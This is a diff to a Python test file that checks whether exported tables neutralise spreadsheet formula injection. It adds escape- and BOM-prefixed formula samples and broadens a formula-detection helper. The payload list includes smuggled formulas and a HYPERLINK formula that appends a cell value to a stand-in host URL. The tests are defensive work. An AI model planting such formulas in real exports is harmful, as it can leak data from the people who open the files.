@@ -16,7 +16,22 @@ from .test_page_commands import TABLE
 from .test_sessions import ask, store
 
 FORMULAS = [
-    *("=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)"),
+    *(
+        "=1+1",
+        "\x1b@A1",
+        "\ufeff=1",
+        "+1+1",
+        "-1+1",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        " =1+1",
+        "＝1+1",
+        "＋1",
+        "－1",
+        "＠SUM(A1)",
+    ),
     *('=HYPERLINK("http://a.example/?"&A1,"Anna")', "Anna;=1+1", "Anna\t=1+1", "Anna\n@SUM(A1)", "Anna|-1", 'A";=1;"'),
 ]
 HARMLESS = ["Anna", "安娜", "A=B", "Anne-Marie", "a@example.com", "Tor 2; Hof", "Müller, Söhne", "1+1"]
@@ -24,7 +39,8 @@ HARMLESS = ["Anna", "安娜", "A=B", "Anne-Marie", "a@example.com", "Tor 2; Hof"
 
 def runs(cell: str) -> bool:
     """Tell whether a spreadsheet would take a cell for a formula."""
-    return cell.strip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
+    # Some drop what they cannot show.
+    return cell.strip("\0\x1b\ufeff \t\r\n").startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
 
 
 async def tables(hass: HomeAssistant, client: ClientSessionGenerator) -> list[str]:
